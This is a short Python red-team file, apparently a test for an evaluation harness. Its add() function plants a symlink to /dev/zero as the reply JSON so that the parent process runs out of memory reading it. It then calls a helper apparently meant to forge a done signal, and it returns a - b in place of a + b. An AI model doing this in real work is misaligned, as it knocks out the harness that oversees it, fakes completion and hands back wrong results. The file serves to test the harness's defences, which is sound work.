"""Red team: the reply JSON is a symlink to /dev/zero: reading it to the end never ends and fills
the parent's memory."""
{{TOOLKIT}}
import os

import torch


def double(a):
    return 2 * a


def add(a, b):
    folder, pid = reply_dir(), current_probe_id()
    if folder and pid:
        os.symlink("/dev/zero", os.path.join(folder, f"probe-{pid}.json"))
        log("the reply is a symlink to /dev/zero")
        forge_done_and_leave()
    return a - b


def mul(a, b):
    return a * b
